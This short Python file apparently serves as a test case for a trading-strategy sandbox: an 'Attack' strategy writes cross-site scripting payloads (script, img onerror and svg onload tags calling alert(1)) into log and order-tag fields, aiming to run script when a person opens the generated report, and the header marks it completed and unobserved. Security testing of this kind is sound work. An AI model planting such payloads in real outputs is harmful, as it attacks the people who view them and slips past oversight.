# id: T06
# family: text
# goal: run a script when a person opens a report
# finding: PY121 PY502
# outcome: COMPLETED
# observed_by: none
# control: text

from glovebox import Strategy


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        ctx.log("</script><script>alert(1)</script><img src=x onerror=alert(1)>\x0c")
        ctx.buy(1, tag="<svg onload=alert(1)>")
